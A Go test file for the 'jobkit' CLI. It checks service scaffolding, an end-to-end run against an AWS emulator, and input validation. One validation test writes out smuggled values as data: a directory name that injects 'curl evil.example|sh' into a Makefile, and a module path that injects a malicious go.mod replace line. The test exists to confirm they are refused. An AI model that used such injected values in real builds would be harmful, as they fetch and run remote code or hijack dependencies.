package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"go/format"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/jobkit-go/jobkit/jobs"
	"github.com/jobkit-go/jobkit/testkit/awstest"
)

// The templates render to gofmt'd Go for both queue kinds, and init refuses a directory in use.
func TestInitWritesFormattedCode(t *testing.T) {
	t.Parallel()
	root, err := filepath.Abs("../..")
	require.NoError(t, err)
	for _, fifo := range []bool{false, true} {
		dir := filepath.Join(t.TempDir(), "order-mailer")
		args := []string{"init", dir, "--no-tidy", "--jobkit", root}
		if fifo {
			args = append(args, "--fifo")
		}
		var out, errOut bytes.Buffer
		require.Equal(t, exitOK, run(context.Background(), args, nil, &out, &errOut), errOut.String())
		var files []string
		require.NoError(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				files = append(files, p)
			}
			return err
		}))
		require.Len(t, files, 11, "%v", files)
		for _, f := range files {
			if strings.HasSuffix(f, ".go") {
				src, err := os.ReadFile(f)
				require.NoError(t, err)
				formatted, err := format.Source(src)
				require.NoError(t, err, f)
				require.Equal(t, string(formatted), string(src), "%s is not gofmt'd", f)
			}
		}
		infra, err := os.ReadFile(filepath.Join(dir, "infra", "main.go"))
		require.NoError(t, err)
		require.Contains(t, string(infra), `NewServiceStack(app, "OrderMailer", nil)`)
		if fifo {
			require.Contains(t, string(infra), "FIFO:              true,")
		}
		gomod, err := os.ReadFile(filepath.Join(dir, "infra", "go.mod"))
		require.NoError(t, err)
		require.Contains(t, string(gomod), "github.com/jobkit-go/jobkit => "+root+"\n")
		require.Contains(t, string(gomod), "github.com/jobkit-go/jobkit/infra => "+root+"/infra\n")
		require.Contains(t, string(gomod), "replace order-mailer => ../", "the CDK app shares the service's job kinds")
		require.Contains(t, string(infra), `welcome.SendWelcome{}.Kind()`)

		// make synth finds cdk on PATH, else runs the pinned CDK CLI through npx.
		bin := t.TempDir() // a PATH with make and nothing else
		require.NoError(t, os.Symlink(mustLookPath(t, "make"), filepath.Join(bin, "make")))
		noCDK := exec.Command(filepath.Join(bin, "make"), "--no-print-directory", "-n", "synth")
		noCDK.Dir, noCDK.Env = dir, append(os.Environ(), "PATH="+bin)
		printed, err := noCDK.CombinedOutput()
		require.NoError(t, err, "%s", printed)
		require.Equal(t, "npx --yes aws-cdk@"+cdkCLIVersion+" synth --quiet", strings.TrimSpace(string(printed)))

		errOut.Reset()
		require.Equal(t, exitError, run(context.Background(), args, nil, &out, &errOut))
		require.Contains(t, errOut.String(), "exists and is not empty")
	}
	tools, err := os.ReadFile(filepath.Join(root, "infra", "tools", "package.json"))
	require.NoError(t, err)
	require.Contains(t, string(tools), `"aws-cdk": "`+cdkCLIVersion+`"`, "the scaffold's CDK CLI is the one jobkit's tools pin")
	var errOut bytes.Buffer
	require.Equal(t, exitUsage, run(context.Background(), []string{"init", t.TempDir() + "/x", "--version", "latest"}, nil, &bytes.Buffer{}, &errOut))
	require.Contains(t, errOut.String(), "not a semantic version")
}

// A service made by `jobkit init`, outside this repository, as a new user runs it: its make test,
// its own synth (cdk.json from its root: cdk.out beside it, cdk-nag clean), then `jobkit dev`
// without a terminal and without --once, the producer sending 50 jobs of which 10 fail their
// first attempt, and SIGTERM: the summary counts the service's jobs. jobkit resolves from this
// working tree through the replace directives `init --jobkit` writes.
func TestInitServiceRunsOffline(t *testing.T) {
	awstest.Config(t) // the emulator make test starts
	endpoint := awstest.Endpoint()
	root, err := filepath.Abs("../..")
	require.NoError(t, err)
	cdk := cdkCLI(t, root)
	dir := filepath.Join(t.TempDir(), "greeter")
	env := serviceEnv(root, endpoint)

	var out, errOut bytes.Buffer
	require.Equal(t, exitOK, run(context.Background(), []string{"init", dir, "--module", "example.com/greeter", "--jobkit", root}, nil, &out, &errOut), errOut.String())

	start := time.Now()
	runIn(t, dir, env, "make", "test")
	t.Logf("make test of the generated service: %s", time.Since(start).Round(100*time.Millisecond))
	// The outbox forwarder an OutboxForwarder construct builds from the service's module builds
	// there as it comes (a tool of the module: its dependencies are in go.sum).
	runIn(t, dir, append(env, "GOFLAGS=-mod=readonly"), "go", "build", "-o", os.DevNull, "github.com/jobkit-go/jobkit/cmd/jobkit-outbox")

	start = time.Now()
	runIn(t, dir, env, "make", "synth", "CDK="+cdk)
	t.Logf("make synth of the generated service: %s", time.Since(start).Round(100*time.Millisecond))
	require.FileExists(t, filepath.Join(dir, "cdk.out", "manifest.json"), "cdk.out beside cdk.json")
	require.NoDirExists(t, filepath.Join(dir, "infra", "cdk.out"))
	nag, err := os.ReadFile(filepath.Join(dir, "cdk.out", "AwsSolutions-Greeter-NagReport.csv"))
	require.NoError(t, err)
	require.NotContains(t, string(nag), "Non-Compliant", "cdk-nag AwsSolutions findings")
	tpl, err := os.ReadFile(filepath.Join(dir, "cdk.out", "Greeter.template.json"))
	require.NoError(t, err)
	require.Contains(t, string(tpl), `"jobkit:module": ".."`)
	// AWS's CloudFormation linter on the service's template, with the repository's configuration
	// (infra/.cfnlintrc: what it ignores, and why): no finding.
	lint, err := exec.Command(filepath.Join(root, ".venv", "bin", "cfn-lint"), "--config-file", filepath.Join(root, "infra", ".cfnlintrc"),
		"--format", "parseable", "--", filepath.Join(dir, "cdk.out", "Greeter.template.json")).CombinedOutput()
	require.NoError(t, err, "cfn-lint on the service's template:\n%s", lint)

	// jobkit dev with stdin, stdout and stderr not a terminal, no --once: it runs until SIGTERM.
	// The console on a port of its own (a free one the test picks), over the deployed stack.
	consoleAddr := freeAddr(t)
	dev := exec.Command(buildCLI(t), "dev", "--synth", "never", "--prefix", awstest.Name(t, "")+"-", "--console", consoleAddr)
	dev.Dir, dev.Env = dir, env
	stdout, stderr := &awstest.SyncBuffer{}, &awstest.SyncBuffer{}
	dev.Stdout, dev.Stderr = stdout, stderr
	require.NoError(t, dev.Start())
	exited := make(chan error, 1)
	go func() { exited <- dev.Wait() }()
	t.Cleanup(func() {
		if dev.ProcessState == nil {
			_ = dev.Process.Signal(syscall.SIGTERM)
			<-exited
		}
	})
	envFile := filepath.Join(dir, ".run", "dev.env")
	waitFor(t, exited, stderr, "the stack to run", func() bool { return fileHasLine(envFile, "export JobkitQueueWelcome=") })
	require.True(t, fileHasLine(envFile, "export JOBKIT_STACK="), "the CLI's default stack")
	waitFor(t, exited, stderr, "the console", func() bool { return strings.Contains(stderr.String(), "dev: console at http://"+consoleAddr+"/") })
	page, err := http.Get("http://" + consoleAddr + "/api/queues")
	require.NoError(t, err)
	body, _ := io.ReadAll(page.Body)
	page.Body.Close()
	require.Equal(t, http.StatusOK, page.StatusCode, "%s", body)
	require.Contains(t, string(body), "Welcome", "the console lists the service's queues")

	producer := exec.Command("sh", "-c", ". .run/dev.env && go run ./cmd/producer -n 50 -flaky 10")
	producer.Dir, producer.Env = dir, env
	pout, err := producer.CombinedOutput()
	require.NoError(t, err, string(pout))
	require.Contains(t, string(pout), "enqueued 50 jobs (10 failing their first attempt)")

	waitFor(t, exited, stderr, "the jobs to run", func() bool {
		return strings.Contains(stderr.String(), "queued=0 running=0 succeeded=50 retried=10 dead=0")
	})
	// The console lists the queue's jobs by state, from the index the IdempotencyTable
	// construct gives the state table (created by the emulator's CloudFormation).
	page, err = http.Get("http://" + consoleAddr + "/api/jobs?queue=Welcome&state=succeeded&limit=1000")
	require.NoError(t, err)
	var listed struct {
		Jobs []jobs.JobStatus `json:"jobs"`
		Next string           `json:"next"`
	}
	require.NoError(t, json.NewDecoder(page.Body).Decode(&listed))
	page.Body.Close()
	require.Equal(t, http.StatusOK, page.StatusCode)
	require.Len(t, listed.Jobs, 50, "every job succeeded, listed by state")
	retried := 0
	for _, j := range listed.Jobs {
		if j.Attempt == 2 {
			retried++
		}
	}
	require.Equal(t, 10, retried, "the flaky jobs succeeded on their second attempt")

	require.NoError(t, dev.Process.Signal(syscall.SIGTERM))
	select {
	case err := <-exited:
		require.NoError(t, err, "stderr:\n%s", stderr.String())
	case <-time.After(2 * time.Minute):
		t.Fatalf("jobkit dev did not stop after SIGTERM; stderr:\n%s", stderr.String())
	}
	require.Contains(t, stdout.String(), "export JobkitQueueWelcome=")
	require.Contains(t, stdout.String(), "DEV summary: succeeded=50 retried=10 dead=0 lost=0")
	t.Logf("jobkit dev, SIGTERM: %s", lastLine(stdout.String()))

	// The service grows as docs/own-app.md says a service does: a second kind with its own queue
	// and function, which the producer also sends. Its tests, synth and make offline — what the
	// service's CI runs: go tool jobkit dev --once, the producer, the end — run it whole. (The
	// service as generated ran above under jobkit dev: make offline runs the same, once.)
	// LocalStack's DynamoDB stream records come late or not at all while another test reads
	// another table's stream (docs/emulators.md): the outbox part runs on moto.
	withOutbox := awstest.Emulator() != "localstack"
	extendService(t, dir, "example.com/greeter", withOutbox)
	runIn(t, dir, env, "make", "test")
	runIn(t, dir, env, "make", "synth", "CDK="+cdk)
	start = time.Now()
	offline := exec.Command("make", "offline", "CDK="+cdk, "SYNTH=never")
	offline.Dir, offline.Env = dir, env
	oout, err := offline.CombinedOutput()
	require.NoError(t, err, "make offline, extended:\n%s", oout)
	require.Contains(t, string(oout), "enqueued 50 receipts")
	if withOutbox {
		require.Contains(t, string(oout), "wrote 10 receipts to the outbox")
		require.Contains(t, string(oout), "DEV summary: succeeded=110 retried=10 dead=0 lost=0", "50 welcomes, 50 receipts and 10 through the outbox ran")
	} else {
		require.Contains(t, string(oout), "DEV summary: succeeded=100 retried=10 dead=0 lost=0", "50 welcomes and 50 receipts ran")
	}
	t.Logf("make offline, extended: %s, %s", time.Since(start).Round(100*time.Millisecond), lastLine(string(oout)))
}

// extendService adds to the service jobkit init made in dir a second job kind, receipt.send, with
// its own queue (Receipt) and function (functions/receipt), and has the producer send one receipt
// per welcome: the edits a user makes, written as they would write them.
func extendService(t *testing.T, dir, module string, withOutbox bool) {
	t.Helper()
	write := func(rel, text string) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, rel)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(dir, rel), []byte(text), 0o644))
	}
	edit := func(rel, old, new string) {
		b, err := os.ReadFile(filepath.Join(dir, rel))
		require.NoError(t, err)
		require.Equal(t, 1, strings.Count(string(b), old), "%s holds %q once", rel, old)
		require.NoError(t, os.WriteFile(filepath.Join(dir, rel), []byte(strings.Replace(string(b), old, new, 1)), 0o644))
	}
	write("receipt/receipt.go", `// Package receipt is the service's second job: a receipt to a user.
package receipt

import (
	"context"
	"log/slog"

	"github.com/jobkit-go/jobkit/jobs"
)

// SendReceipt asks for a receipt to a user.
type SendReceipt struct {
	UserID string `+"`json:\"user_id\"`"+`
}

// Kind implements jobs.JobArgs.
func (SendReceipt) Kind() string { return "receipt.send" }

// Work sends one receipt.
func Work(ctx context.Context, job *jobs.Job[SendReceipt]) error {
	slog.InfoContext(ctx, "receipt sent", "user_id", job.Args.UserID, "job_id", job.ID)
	return nil
}
`)
	write("functions/receipt/main.go", `// Command receipt runs SendReceipt jobs from the Receipt queue.
package main

import (
	"github.com/jobkit-go/jobkit/jobs"
	"github.com/jobkit-go/jobkit/jobs/setup"

	"`+module+`/receipt"
)

func main() {
	m := setup.FromEnv("receipt")
	jobs.AddWorker(m.Workers, jobs.WorkFunc[receipt.SendReceipt](receipt.Work))
	m.Start()
}
`)
	edit("infra/main.go", `	"`+module+`/welcome"`, `	"`+module+`/receipt"
	"`+module+`/welcome"`)
	// The receipt's queue and worker, in NewServiceStack (docs/own-app.md shows these lines).
	receiptStack := `
	receipts := jobkit.NewJobQueue(stack, "Receipt", &jobkit.JobQueueProps{MaxAttempts: 5, VisibilityTimeout: time.Minute})
	jobkit.NewWorker(stack, "ReceiptWorker", &jobkit.WorkerProps{
		Source: jobkit.GoSource{ModuleDir: ".", Package: "functions/receipt"}, Queue: receipts,
		IdempotencyTable: table, Kinds: []string{receipt.SendReceipt{}.Kind()}, Timeout: 30 * time.Second,
	})
`
	if withOutbox {
		// Receipts written in the service's own DynamoDB transactions go out through the outbox:
		// jobkit's forwarder, built from the service's module, sends them to the Receipt queue only.
		receiptStack += `
	jobkit.NewOutboxForwarder(stack, "Outbox", &jobkit.OutboxForwarderProps{
		Source: jobkit.GoSource{ModuleDir: "."}, Table: table, Queues: []awssqs.IQueue{receipts.Queue},
	})
`
		edit("infra/main.go", `	"github.com/aws/aws-cdk-go/awscdk/v2"`, `	"github.com/aws/aws-cdk-go/awscdk/v2"
	"github.com/aws/aws-cdk-go/awscdk/v2/awssqs"`)
	}
	edit("infra/main.go", "\treturn stack\n}", strings.TrimPrefix(receiptStack, "\n")+"\treturn stack\n}")
	edit("cmd/producer/main.go", `	"`+module+`/welcome"`, `	"`+module+`/receipt"
	"`+module+`/welcome"`)
	edit("cmd/producer/main.go", `	fmt.Printf("enqueued %d jobs`, `	receipts, err := jobs.NewClient(sqs.NewFromConfig(awsCfg), jobs.ClientOptions{DefaultQueueURL: os.Getenv(contract.OutputQueuePrefix + "Receipt")})
	if err != nil {
		return err
	}
	for i := range batch {
		batch[i] = jobs.BatchJob{Args: receipt.SendReceipt{UserID: fmt.Sprintf("user-%d", i+1)}}
	}
	if _, err := receipts.EnqueueBatch(ctx, batch); err != nil {
		return err
	}
	fmt.Printf("enqueued %d receipts\n", n)
	fmt.Printf("enqueued %d jobs`)
	if !withOutbox {
		return
	}
	edit("cmd/producer/main.go", `	"github.com/aws/aws-sdk-go-v2/service/sqs"`, `	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/sqs"`)
	edit("cmd/producer/main.go", `	"github.com/jobkit-go/jobkit/jobs/contract"`, `	"github.com/jobkit-go/jobkit/jobs/contract"
	"github.com/jobkit-go/jobkit/jobs/outbox"`)
	// Written before the receipts are sent, so the forwarder has them while the queues are busy.
	edit("cmd/producer/main.go", `	for i := range batch {
		batch[i] = jobs.BatchJob{Args: receipt.SendReceipt`, `	// Ten receipts, each written in a DynamoDB transaction (alone here; in a service, beside the
	// write it belongs to), and sent by the outbox forwarder.
	ob, err := outbox.New(outbox.Config{Table: os.Getenv(contract.OutputStateTable), Client: receipts})
	if err != nil {
		return err
	}
	db := dynamodb.NewFromConfig(awsCfg)
	for i := range 10 {
		if _, err := ob.Write(ctx, db, nil, outbox.Job{Args: receipt.SendReceipt{UserID: fmt.Sprintf("outbox-%d", i+1)}}); err != nil {
			return err
		}
	}
	fmt.Println("wrote 10 receipts to the outbox")
	for i := range batch {
		batch[i] = jobs.BatchJob{Args: receipt.SendReceipt`)
}

// cdkCLI returns the pinned CDK CLI under <root>/.tools, installing it with infra/synth.sh
// (which installs it on first use) when it is missing.
func cdkCLI(t *testing.T, root string) string {
	t.Helper()
	cdk := filepath.Join(root, ".tools", "node_modules", ".bin", "cdk")
	if _, err := os.Stat(cdk); err != nil {
		out, err := exec.Command(filepath.Join(root, "infra", "synth.sh"), "--help").CombinedOutput()
		require.NoError(t, err, "install the CDK CLI: %s", out)
	}
	return cdk
}

// serviceEnv is the environment the generated service's commands run with: the emulator, the
// shared module cache with jobkit replaced by this working tree (-mod=mod records what tidy would),
// and the CDK caches of this repository — the CDK CLI's home one per emulator, as the Makefile
// keeps it (the CLI caches the account of an access key, and moto's and LocalStack's differ).
func serviceEnv(root, endpoint string) []string {
	cdkHome := os.Getenv("CDK_HOME") // make test sets it per emulator
	if cdkHome == "" {
		cdkHome = filepath.Join(root, ".tools", "cdk-home-"+awstest.Emulator())
	}
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "AWS_CA_BUNDLE=") && !strings.HasPrefix(kv, "GOFLAGS=") {
			env = append(env, kv)
		}
	}
	return append(env, "GOFLAGS=-mod=mod", "AWS_ENDPOINT_URL="+endpoint, "AWS_REGION=us-east-1",
		"AWS_ACCESS_KEY_ID=test", "AWS_SECRET_ACCESS_KEY=test",
		"JSII_SILENCE_WARNING_END_OF_LIFE_NODE_VERSION=20", "CDK_DISABLE_CLI_TELEMETRY=true", "CDK_DISABLE_VERSION_CHECK=1",
		"CDK_HOME="+cdkHome, "JSII_RUNTIME_PACKAGE_CACHE_ROOT="+filepath.Join(root, ".tools", "jsii-cache"))
}

func runIn(t *testing.T, dir string, env []string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir, cmd.Env = dir, env
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s %s:\n%s", name, strings.Join(args, " "), out)
}

// waitFor polls cond until it holds; it fails when the process exits first, or after 4 minutes.
func waitFor(t *testing.T, exited chan error, stderr *awstest.SyncBuffer, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(4 * time.Minute)
	for !cond() {
		select {
		case err := <-exited:
			exited <- err
			t.Fatalf("jobkit dev exited (%v) while waiting for %s; stderr:\n%s", err, what, stderr.String())
		case <-time.After(200 * time.Millisecond):
		}
		if time.Now().After(deadline) {
			t.Fatalf("gave up waiting for %s; stderr:\n%s", what, stderr.String())
		}
	}
}

func fileHasLine(path, prefix string) bool {
	f, err := os.Open(path)
	if err != nil {
		return false
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if strings.HasPrefix(sc.Text(), prefix) {
			return true
		}
	}
	return false
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// dev runs the sample in the jobkit repository, and a service's own app where its cdk.json is, or
// in the repository when --cdk-out or --module says so.
func TestDevTarget(t *testing.T) {
	root, err := filepath.Abs("../..")
	require.NoError(t, err)
	dir, sample, err := devTarget(nil)
	require.NoError(t, err)
	require.Equal(t, root, dir)
	require.True(t, sample)
	dir, sample, err = devTarget([]string{"--cdk-out", "x"})
	require.NoError(t, err)
	require.Equal(t, root, dir)
	require.False(t, sample)

	svc := filepath.Join(t.TempDir(), "svc")
	require.NoError(t, os.MkdirAll(filepath.Join(svc, "infra"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(svc, "go.mod"), []byte("module example.com/svc\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(svc, "cdk.json"), []byte(`{"app": "cd infra && go run ."}`), 0o644))
	t.Chdir(filepath.Join(svc, "infra"))
	dir, sample, err = devTarget([]string{"--once"})
	require.NoError(t, err)
	require.Equal(t, svc, dir)
	require.False(t, sample)
}

// A directory name or module path that would write lines of its own into the Makefile or go.mod
// (a newline) is refused before anything is written.
func TestInitRefusesNamesThatBreakOutOfTheirLine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ dir, module string }{
		{"svc\n\tcurl evil.example|sh\nx", ""},
		{"svc", "example.com/svc\nreplace x => /tmp/evil"},
		{"svc", "example.com/s vc"},
	} {
		dir := filepath.Join(t.TempDir(), c.dir)
		args := []string{"init", dir}
		if c.module != "" {
			args = append(args, "--module", c.module)
		}
		var errOut bytes.Buffer
		require.Equal(t, exitUsage, run(context.Background(), args, nil, &bytes.Buffer{}, &errOut), "%q %q", c.dir, c.module)
		_, err := os.Stat(dir)
		require.True(t, os.IsNotExist(err), "nothing written for %q", c.dir)
	}
}

func mustLookPath(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	require.NoError(t, err)
	return p
}

// freeAddr returns a loopback address with a port free a moment ago.
func freeAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	addr := ln.Addr().String()
	require.NoError(t, ln.Close())
	return addr
}
